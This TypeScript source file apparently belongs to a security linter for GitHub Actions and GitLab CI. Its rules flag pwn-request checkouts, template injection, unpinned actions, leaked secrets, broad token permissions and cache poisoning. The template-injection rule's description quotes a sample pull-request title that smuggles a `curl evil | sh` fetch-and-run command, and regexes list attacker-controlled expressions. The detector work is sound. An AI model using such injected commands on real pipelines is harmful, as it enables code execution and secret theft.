import { defineRule } from '../../../core/rule.js';
import type { ConfigDomain, ConfigFile, ConfigReport } from '../types.js';
import { entries, get, items, str, type YValue } from '../yaml.js';

/**
 * CI definitions: GitHub Actions workflows (and composite actions) and GitLab CI. The rules follow the
 * attacks that hit ML projects' pipelines (the Ultralytics release compromise of December 2024 combined a
 * `pull_request_target` workflow, template injection of a branch name and a poisoned cache).
 */

const noCheck = (): undefined => undefined;

export const untrustedCheckoutRule = defineRule<'checkout', void>({
  id: 'config/ci-untrusted-checkout',
  title: 'A privileged workflow checks out and runs a pull request\'s code',
  description:
    '`pull_request_target` and `workflow_run` workflows run with the base repository\'s secrets and a write token. ' +
    'Checking out the pull request\'s head in them (and then building, testing or installing it) runs the fork ' +
    'author\'s code with those rights — a "pwn request".',
  severity: 'critical',
  confidence: 'high',
  tags: ['cwe:829', 'owasp-ml:ML06'],
  remediation: 'Use `pull_request` for anything that runs the contributor\'s code; keep `pull_request_target` for labelling/commenting without checkout, or split into an unprivileged `pull_request` job that uploads artifacts and a privileged `workflow_run` job that only reads them as data.',
  messages: { checkout: 'This {{trigger}} workflow checks out untrusted code ({{ref}}) with the base repository\'s secrets and token.' },
  check: noCheck,
});

export const templateInjectionRule = defineRule<'injection', void>({
  id: 'config/ci-template-injection',
  title: 'Attacker-controlled text is pasted into a script',
  description:
    '`${{ github.event.pull_request.title }}`, branch names, issue and comment bodies, commit messages and the like are ' +
    'expanded into the `run:` script before the shell sees it: a title such as `"; curl evil | sh #` runs as code in ' +
    'the job (with its secrets).',
  severity: 'high',
  confidence: 'high',
  tags: ['cwe:94', 'owasp-ml:ML06'],
  remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
  messages: { injection: '{{expression}} is expanded into a {{where}}: its author controls the script.' },
  check: noCheck,
});

export const unpinnedActionRule = defineRule<'unpinned', void>({
  id: 'config/ci-unpinned-action',
  title: 'A workflow uses an action by a movable reference',
  description: '`uses: owner/action@v3` (or a branch) runs whatever that tag points at today; a compromised or re-tagged action (tj-actions/changed-files, March 2025) runs in every job that uses it, with its secrets.',
  severity: 'medium',
  confidence: 'high',
  tags: ['cwe:829', 'owasp-ml:ML06'],
  remediation: 'Pin to a full commit SHA (`uses: owner/action@<40-hex> # v3.1.0`) and let Dependabot or Renovate update it.',
  messages: { unpinned: '{{action}} is referenced by {{ref}}, not by a commit SHA.' },
  check: noCheck,
});

export const secretsExposureRule = defineRule<'echo' | 'thirdParty' | 'inherit' | 'literal', void>({
  id: 'config/ci-secret-exposure',
  title: 'A CI secret is printed, handed to unpinned code, or written into the file',
  description: 'Echoing a secret puts it into logs (masking is easily defeated by encoding); passing it to an action pinned by a movable tag hands it to whoever can move that tag; a credential written into the CI file is readable by everyone with read access.',
  severity: 'high',
  confidence: 'medium',
  tags: ['cwe:532', 'cwe:798'],
  remediation: 'Never print secrets; pass them only to actions pinned by SHA; keep credentials in CI secret storage (and prefer OIDC-issued short-lived credentials).',
  messages: {
    echo: 'The script prints {{secret}}.',
    thirdParty: '{{secret}} is passed to {{action}}, which is not pinned to a commit.',
    inherit: 'All secrets are passed to {{workflow}}, which is not pinned to a commit.',
    literal: '{{name}} is set to a literal credential in the CI file.',
  },
  check: noCheck,
});

export const permissionsRule = defineRule<'writeAll', void>({
  id: 'config/ci-excessive-permissions',
  title: 'A workflow grants every permission to its token',
  description: '`permissions: write-all` gives the job\'s GITHUB_TOKEN write access to code, releases, packages and workflows: any compromised step can push a backdoor or publish a release.',
  severity: 'medium',
  confidence: 'high',
  tags: ['cwe:250'],
  remediation: 'Set `permissions: {contents: read}` at the top and grant each job only the scopes it needs.',
  messages: { writeAll: 'permissions: write-all grants the token every write scope.' },
  check: noCheck,
});

export const publishTokenRule = defineRule<'pypi' | 'npm', void>({
  id: 'config/ci-long-lived-publish-token',
  title: 'A package is published with a long-lived token where trusted publishing exists',
  description: 'PyPI and npm accept short-lived OIDC credentials from GitHub Actions and GitLab CI (trusted publishing). A long-lived API token in CI secrets can be stolen by any compromised step or maintainer account and used from anywhere, for as long as it lives.',
  severity: 'medium',
  confidence: 'high',
  tags: ['cwe:798', 'owasp-ml:ML06'],
  remediation: 'Configure trusted publishing on PyPI/npm, grant `id-token: write` to the publish job only, and delete the token.',
  messages: {
    pypi: 'PyPI publishing uses a stored token ({{how}}) instead of trusted publishing.',
    npm: 'npm publishing uses a stored token ({{how}}) instead of trusted publishing.',
  },
  check: noCheck,
});

export const cachePoisoningRule = defineRule<'cache', void>({
  id: 'config/ci-cache-poisoning',
  title: 'A cache is written by a job that runs with untrusted input',
  description: 'Caches written in `pull_request_target` or `workflow_run` jobs are saved in the base branch\'s scope: code from a fork can plant files that later release or training jobs restore and run.',
  severity: 'high',
  confidence: 'medium',
  tags: ['cwe:349', 'owasp-ml:ML06'],
  remediation: 'Do not use caches in privileged workflows triggered by forks; in release workflows, build without restoring caches (or use `actions/cache/restore` with keys no fork can write).',
  messages: { cache: 'This {{trigger}} workflow writes a cache ({{how}}) that other workflows in the base branch restore.' },
  check: noCheck,
});

/** Expressions whose value the author of a pull request, issue, comment, commit or branch chooses. */
const UNTRUSTED = /github\.(?:event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.(?:default_branch|description|homepage|name))|head_ref)|comment\.body|review\.body|review_comment\.body|pages\.[^}\s]*\.page_name|commits\.[^}\s]*\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))|display_title|pull_requests\.[^}\s]*\.head\.ref)|discussion\.(?:title|body)|discussion_comment\.body)|head_ref)\b/;
const HEAD_REF = /github\.(?:event\.pull_request\.head\.(?:sha|ref)|head_ref|event\.workflow_run\.head_(?:sha|branch)|event\.pull_request\.number)|refs\/pull\//;
const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;

function at(file: ConfigFile, node: { line: number; column: number }): { line: number; column: number; evidence: string } {
  return { line: node.line, column: node.column, evidence: file.lineText(node.line).slice(0, 200) };
}

function triggers(root: YValue | undefined): string[] {
  const on = get(root, 'on') ?? get(root, 'true'); // YAML 1.1 reads `on:` as true
  if (!on) return [];
  if (on.type === 'scalar') return [String(on.value)];
  if (on.type === 'seq') return on.items.map((i) => str(i) ?? '');
  return on.entries.map((e) => e.key);
}

function isPinned(uses: string): boolean {
  if (uses.startsWith('./') || uses.startsWith('docker://')) return !uses.startsWith('docker://') || uses.includes('@sha256:');
  const ref = uses.slice(uses.lastIndexOf('@') + 1);
  return uses.includes('@') && /^[0-9a-f]{40}$/i.test(ref);
}

function checkGithub(file: ConfigFile, report: ConfigReport): void {
  for (const doc of file.yaml ?? []) {
    const root = doc.root;
    const on = triggers(root);
    const privileged = on.find((t) => t === 'pull_request_target' || t === 'workflow_run');
    const permissions = get(root, 'permissions');
    if (str(permissions) === 'write-all') report(permissionsRule, { message: 'writeAll', ...at(file, permissions!), key: 'top:write-all' });
    // Composite actions keep steps under runs.steps; workflows under jobs.<id>.steps.
    const jobs: { id: string; job: YValue }[] = entries(get(root, 'jobs')).map((e) => ({ id: e.key, job: e.value }));
    const runs = get(root, 'runs');
    if (runs) jobs.push({ id: 'action', job: runs });
    for (const { id, job } of jobs) {
      const jobPermissions = get(job, 'permissions');
      if (str(jobPermissions) === 'write-all') report(permissionsRule, { message: 'writeAll', ...at(file, jobPermissions!), key: `${id}:write-all` });
      const reusable = get(job, 'uses');
      if (reusable) checkUses(file, str(reusable) ?? '', reusable, get(job, 'with'), get(job, 'secrets'), report, id);
      for (const [index, step] of items(get(job, 'steps')).entries()) {
        const key = `${id}:${index}`;
        const uses = get(step, 'uses');
        const usesText = str(uses) ?? '';
        const withNode = get(step, 'with');
        if (uses) checkUses(file, usesText, uses, withNode, undefined, report, key);
        if (privileged && /^actions\/checkout@/.test(usesText)) {
          const ref = get(withNode, 'ref');
          if (ref && HEAD_REF.test(str(ref) ?? '')) report(untrustedCheckoutRule, { message: 'checkout', data: { trigger: privileged, ref: str(ref)! }, ...at(file, ref), key: `${key}:checkout` });
        }
        if (privileged && (/^actions\/cache(?:\/save)?@/.test(usesText) || (/^actions\/setup-(?:python|node|go|java)@/.test(usesText) && get(withNode, 'cache') !== undefined))) {
          report(cachePoisoningRule, { message: 'cache', data: { trigger: privileged, how: usesText.split('@')[0]! }, ...at(file, uses!), key: `${key}:cache` });
        }
        if (/^pypa\/gh-action-pypi-publish@/.test(usesText)) {
          const password = get(withNode, 'password');
          if (password && /secrets\./.test(str(password) ?? '')) report(publishTokenRule, { message: 'pypi', data: { how: 'password: ' + (str(password) ?? '').replace(/\s+/g, ' ') }, ...at(file, password), key: `${key}:pypi` });
        }
        const run = get(step, 'run');
        const script = str(run) ?? (/^actions\/github-script@/.test(usesText) ? str(get(withNode, 'script')) : undefined);
        const scriptNode = run ?? get(withNode, 'script');
        if (script !== undefined && scriptNode) {
          checkScript(file, script, scriptNode, run ? 'run: script' : 'github-script script', report, key);
          const env = entries(get(step, 'env'));
          if (/\btwine\s+upload\b/.test(script) && (env.some((e) => /TWINE_PASSWORD/.test(e.key) && /secrets\./.test(str(e.value) ?? '')) || /--password\s+\$\{\{\s*secrets\./.test(script))) {
            report(publishTokenRule, { message: 'pypi', data: { how: 'twine upload with a secret password' }, ...at(file, scriptNode), key: `${key}:twine` });
          }
          if (/\bnpm\s+publish\b/.test(script) && env.some((e) => /NODE_AUTH_TOKEN|NPM_TOKEN/.test(e.key) && /secrets\./.test(str(e.value) ?? ''))) {
            report(publishTokenRule, { message: 'npm', data: { how: 'NODE_AUTH_TOKEN from secrets' }, ...at(file, scriptNode), key: `${key}:npm` });
          }
        }
      }
    }
  }
}

function checkUses(file: ConfigFile, uses: string, node: YValue, withNode: YValue | undefined, secrets: YValue | undefined, report: ConfigReport, key: string): void {
  if (uses === '' || isPinned(uses)) return;
  const [action, ref] = uses.includes('@') ? [uses.slice(0, uses.lastIndexOf('@')), uses.slice(uses.lastIndexOf('@') + 1)] : [uses, '(no ref)'];
  const firstParty = /^(?:actions|github)\//.test(action);
  report(unpinnedActionRule, { message: 'unpinned', data: { action, ref: `"${ref}"` }, ...at(file, node), ...(firstParty ? { severity: 'low' as const } : {}), key: `${key}:${uses}` });
  if (firstParty) return;
  for (const { value } of entries(withNode)) {
    const text = str(value) ?? '';
    const secret = /\$\{\{\s*(secrets\.[A-Za-z0-9_]+)\s*\}\}/.exec(text);
    if (secret && !/secrets\.GITHUB_TOKEN/.test(text)) report(secretsExposureRule, { message: 'thirdParty', data: { secret: secret[1]!, action: uses }, ...at(file, value), key: `${key}:${secret[1]}` });
  }
  if (str(secrets) === 'inherit') report(secretsExposureRule, { message: 'inherit', data: { workflow: uses }, ...at(file, secrets!), severity: 'medium', key: `${key}:inherit` });
}

function checkScript(file: ConfigFile, script: string, node: YValue, where: string, report: ConfigReport, key: string): void {
  const lineOf = (offset: number): number => {
    // Block scalars start on the line after the key; the node's line is the `|` indicator.
    const base = node.type === 'scalar' && /^[|>]/.test(node.source) ? node.line + 1 : node.line;
    return base + script.slice(0, offset).split('\n').length - 1;
  };
  EXPRESSION.lastIndex = 0;
  for (let m = EXPRESSION.exec(script); m; m = EXPRESSION.exec(script)) {
    const expression = m[1]!.trim();
    if (UNTRUSTED.test(expression)) {
      const line = lineOf(m.index);
      report(templateInjectionRule, { message: 'injection', data: { expression: `\${{ ${expression} }}`, where }, line, column: 1, evidence: file.lineText(line).slice(0, 200), key: `${key}:${expression}` });
    }
  }
  const echo = /\b(?:echo|printf|cat\s*<<)[^\n]*\$\{\{\s*(secrets\.[A-Za-z0-9_]+)\s*\}\}/.exec(script);
  if (echo && echo[1] !== 'secrets.GITHUB_TOKEN') {
    const line = lineOf(echo.index);
    report(secretsExposureRule, { message: 'echo', data: { secret: echo[1]! }, line, column: 1, evidence: file.lineText(line).slice(0, 200), key: `${key}:echo` });
  }
}

const SECRET_NAME = /(?:PASSWORD|PASSWD|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIALS?)(?:$|_)/i;

function checkGitlab(file: ConfigFile, report: ConfigReport): void {
  const reserved = new Set(['stages', 'variables', 'default', 'include', 'workflow', 'image', 'services', 'cache', 'before_script', 'after_script']);
  for (const doc of file.yaml ?? []) {
    const root = doc.root;
    const sections: { id: string; node: YValue | undefined }[] = [{ id: 'top', node: root }, ...entries(root).filter((e) => !reserved.has(e.key) && e.value.type === 'map').map((e) => ({ id: e.key, node: e.value }))];
    for (const { id, node } of sections) {
      for (const { key, value } of entries(get(node, 'variables'))) {
        const text = str(value) ?? str(get(value, 'value'));
        if (text === undefined || text === '' || text.startsWith('$') || !SECRET_NAME.test(key) || /(?:_FILE|_PATH|_URL|_ID|_NAME)$/i.test(key)) continue;
        report(secretsExposureRule, { message: 'literal', data: { name: key }, line: value.line, column: value.column, secret: text, key: `${id}:${key}` });
      }
      const scripts = ['script', 'before_script', 'after_script'].map((k) => get(node, k)).filter((s): s is YValue => s !== undefined);
      for (const script of scripts) {
        const lines = script.type === 'seq' ? items(script) : [script];
        for (const line of lines) {
          const text = str(line) ?? '';
          if (/\btwine\s+upload\b/.test(text) && /TWINE_PASSWORD|--password/.test(text + JSON.stringify(entries(get(node, 'variables')).map((e) => e.key)))) {
            report(publishTokenRule, { message: 'pypi', data: { how: 'twine upload with a stored password' }, ...at(file, line), key: `${id}:twine` });
          }
        }
      }
      const include = get(node, 'include');
      for (const item of include?.type === 'seq' ? include.items : include ? [include] : []) {
        const remote = str(get(item, 'remote')) ?? (str(item)?.startsWith('http') ? str(item) : undefined);
        if (remote !== undefined) report(unpinnedActionRule, { message: 'unpinned', data: { action: `include: remote ${remote}`, ref: 'URL (its content can change)' }, ...at(file, item), key: `${id}:include:${remote}` });
        const project = str(get(item, 'project'));
        const ref = str(get(item, 'ref'));
        if (project !== undefined && !/^[0-9a-f]{40}$/i.test(ref ?? '')) report(unpinnedActionRule, { message: 'unpinned', data: { action: `include: project ${project}`, ref: ref === undefined ? 'the default branch' : `"${ref}"` }, ...at(file, item), key: `${id}:include:${project}` });
      }
    }
  }
}

export const ciDomain: ConfigDomain = {
  name: 'ci',
  kinds: ['github-actions', 'gitlab-ci'],
  rules: [cachePoisoningRule, permissionsRule, publishTokenRule, secretsExposureRule, templateInjectionRule, unpinnedActionRule, untrustedCheckoutRule],
  check: (file, report) => (file.kind === 'github-actions' ? checkGithub(file, report) : checkGitlab(file, report)),
};

